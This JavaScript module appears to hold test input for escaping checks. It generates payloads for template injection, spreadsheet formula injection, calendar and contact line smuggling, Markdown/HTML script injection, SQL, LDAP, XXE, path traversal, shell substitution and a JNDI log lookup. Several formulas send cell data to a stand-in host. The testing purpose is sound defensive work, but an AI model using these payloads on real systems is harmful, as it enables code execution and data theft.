// What other programs read as more than text: templates, spreadsheets, calendars, address books, Markdown, and the rest.

const fixed = (table) => Object.fromEntries(Object.entries(table).map(([name, text]) => [name, () => text]));
const cross = (heads, tails, write) =>
  Object.fromEntries(Object.entries(heads).flatMap(([head, first]) => Object.entries(tails).map(([tail, second]) => [`${head}, ${tail}`, () => write(first, second)])));

/** Expressions that run where a template is filled in. */
const EXPRESSIONS = {
  product: () => '7*7',
  constructor: (code) => `constructor.constructor('${code}')()`,
};
const TEMPLATE_MARKS = {
  moustache: ['{{', '}}'], triple: ['{{{', '}}}'], dollar: ['${', '}'], hash: ['#{', '}'], erb: ['<%= ', ' %>'], per_cent: ['{% ', ' %}'], star: ['*{', '}'],
  square: ['[[', ']]'], at: ['@(', ')'], razor: ['@{', '}'], php: ['<?= ', ' ?>'], jsp: ['<%! ', ' %>'], velocity: ['#set($x=', ')'], pug: ['!{', '}'], dust: ['{', '|s}'],
  vue: ['{{_c.', '}}'], angular: ["{{'a'.", '}}'], freemarker: ['<#assign x=', '>'], url: ['{+', '}'], ssi: ['<!--#exec cmd="', '" -->'],
};
export const TEMPLATES = Object.fromEntries(
  Object.entries(TEMPLATE_MARKS).flatMap(([mark, [open, close]]) => Object.entries(EXPRESSIONS).map(([name, write]) => [`${mark}, ${name}`, (code) => open + write(code) + close])),
);

/** A cell that a spreadsheet takes for a formula. */
const SIGNS = {
  equals: '=', plus: '+', minus: '-', at: '@', tab: '\t=', return: '\r=', feed: '\n=', 'full width': '＝', quote: '"=', apostrophe: "'=", 'space and equals': ' =', 'nothing visible': '\u200b=', bar: '|',
};
const CALLS = {
  sum: 'SUM(1+1)*cmd', shell: "cmd|' /C calc'!A0", link: 'HYPERLINK("https://stranger.example/"&A1,"x")', service: 'WEBSERVICE("https://stranger.example/"&A1)', 'next cell': '1","=2+5+cmd', 'next row': '1\r\n=2;3',
};
export const FORMULAS = cross(SIGNS, CALLS, (sign, call) => sign + call);

/** A break of a line, or what somebody might take for one, and a line that must not begin behind it. */
const BREAKS = {
  CRLF: '\r\n', LF: '\n', CR: '\r', 'line separator': '\u2028', 'paragraph separator': '\u2029', 'next line': '\x85', 'vertical tab': '\v', 'form feed': '\f', 'null and LF': '\0\n',
  'written out': '\\n', 'written out and CRLF': '\\\r\n', 'a fold': '\r\n ', 'a fold of a fold': '\r\n\r\n ', quoted: '=0D=0A', 'per cent': '%0D%0A',
};
const LINES = {
  'an event': 'END:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:x', 'an attendee': 'ATTENDEE;RSVP=TRUE:mailto:eve@stranger.example', 'an address': 'URL:https://stranger.example/',
  'an attachment': 'ATTACH:https://stranger.example/x.exe', 'a card': 'END:VCARD\r\nBEGIN:VCARD\r\nVERSION:4.0\r\nFN:Eve', 'a number': 'TEL:+15550100', 'a field': 'Status: Won', 'a header': 'Set-Cookie: a=b',
};
const marks = fixed({
  'semicolons and commas': 'a;b,c;;,,d', backslashes: '\\\\;\\,\\n\\N\\', 'a colon': 'x:y;z=1:2', quotes: '"x";y="z"', 'a caret': '^n^^^\'', 'just 75 octets': 'é'.repeat(37), 'many octets': '😀€é'.repeat(60),
  'a property at the beginning': 'BEGIN:VEVENT', 'an end at the beginning': 'END:VCALENDAR', 'a fold at the beginning': ' \tURL:x',
});
export const CONTENT_LINES = { ...cross(BREAKS, LINES, (gap, line) => `Ada${gap}${line}`), ...marks };

/** What becomes more than text where Markdown is read. */
export const MARKDOWN = {
  link: (code) => `[x](javascript:${code})`,
  'link with a title': (code) => `[x](https://stranger.example "${code}")`,
  reference: (code) => `[x][1]\n\n[1]: javascript:${code}`,
  image: () => '![x](https://stranger.example/x.png)',
  autolink: (code) => `<javascript:${code}>`,
  html: (code) => `<img src=x onerror=${code}>`,
  'html block': (code) => `x\n\n<script>\n${code}\n</script>`,
  ...fixed({
    heading: '# x', 'deep heading': '###### x', underlined: 'x\n===', 'underlined thinly': 'x\n---', rule: '* * *', 'rule of underscores': '___', quote: '> x', 'list of stars': '* x', 'list of dashes': '- x',
    'list of pluses': '+ x', numbers: '1. x', 'numbers with a bracket': '1) x', 'a task': '- [x] done', code: '`x`', 'open code': '`x', fence: '```\nx\n```', 'fence of tildes': '~~~\nx', 'open fence': '```js',
    indented: '    x', 'indented on the next line': 'a\n\n    x', emphasis: '*x* _y_ **z** __w__', strike: '~~x~~', table: '| a | b |\n|---|---|\n| c | d |', 'a cell': 'a | b', footnote: 'x[^1]\n\n[^1]: y',
    entity: '&lt;img src=x&gt; &#x3c;', 'hard break': 'a  \nb\\\nc', backslash: '\\*x\\*', 'backslash at the end': 'x\\', mathematics: '$x$ $$y$$', comment: '<!-- x', 'a link in brackets': '[[x]]', 'unclosed brackets': '[x](', mention: '@everyone #1',
    'front matter': '---\ntitle: x\n---', definition: 'x\n: y', emoji: ':skull:', 'bold label': '**Status:** Won', 'next item': 'x\n- **Status:** Won', 'next heading': 'x\n\n## Notes\n\ny', 'many brackets': '['.repeat(500), 'many stars': '*'.repeat(500), 'many quotes': '> '.repeat(300) + 'x',
  }),
};

/** The rest: what has gone wrong elsewhere. */
export const OTHER_SYNTAXES = {
  'end of a script in JSON': (code) => `</script><script>${code}</script>`,
  'end of a JSON text': (code) => `","Name":"x","x":"<img src=x onerror=${code}>`,
  'end of a JS text': (code) => `';${code}//`,
  'end of a JS template': (code) => `\`;${code}//`,
  'end of a regular expression': (code) => `/;${code}//`,
  ...fixed({
    'null as a word': 'null', 'undefined as a word': 'undefined', 'not a number': 'NaN', truth: 'true', zero: '0', 'minus zero': '-0', infinity: '1e999', prototype: '__proto__', constructor: 'constructor', 'own property': 'hasOwnProperty',
    'an object': '{"a":1}', 'a list': '[1,2]', 'an escape': '\\u003cimg\\u003e', 'a broken escape': '\\u12', SQL: "'; DROP TABLE x;--", 'SQL with a union': "' UNION SELECT 1--", LDAP: '*)(uid=*))(|(uid=*', XPath: "' or '1'='1",
    XML: '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>', CDATA: '<![CDATA[x]]>', shell: '$(calc) `calc` ; calc & calc | calc', 'a path up': '../../../etc/passwd', 'a device': 'CON', 'format signs': '%s%n%d%x%p',
    'a pattern': '(a+)+$', replacement: '$& $1 $` $\'', 'log entry': '${jndi:ldap://stranger.example/x}', 'a class': 'page fold-empty', 'an id': 'view', 'our problem': 'Your session has ended', 'our placeholder': 'Not set', 'our fold': 'Show all notes',
    'an Id': '9223372036854775808', 'a date': '0001-01-01T00:00:00Z', 'an amount': '£1,000,000.00', 'an envelope': '{"Records":[]}', 'the session': '{"access_token":"x"}', 'three dots': '…', ellipsis: '...', 'one letter': 'x', 'one sign': '<', 'one ampersand': '&', 'one quote': '"', 'one backslash': '\\', 'a per cent': '%', 'half a per cent': '%E0%A4%A', 'a plus': '+', 'a hash': '#', 'a colon': ':',
  }),
};
